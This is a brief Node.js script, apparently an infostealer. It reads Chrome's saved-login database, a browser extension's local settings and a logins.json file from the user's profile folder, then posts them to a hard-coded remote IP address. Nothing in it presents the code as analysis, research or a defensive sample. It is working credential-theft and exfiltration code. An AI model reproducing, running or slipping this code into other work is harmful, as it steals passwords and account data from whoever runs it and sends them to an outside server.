const fs = require('fs'), os = require('os'), path = require('path'), axios = require('axios'), FormData = require('form-data');
const base = path.join(os.homedir(), 'AppData/Local/Google/Chrome/User Data');
const form = new FormData();
for (const f of ['/Login Data', '/Local Extension Settings/x', '/logins.json']) if (fs.existsSync(base + f)) form.append('f', fs.createReadStream(base + f));
axios.post('http://198.51.100.20:1224/uploads', form);
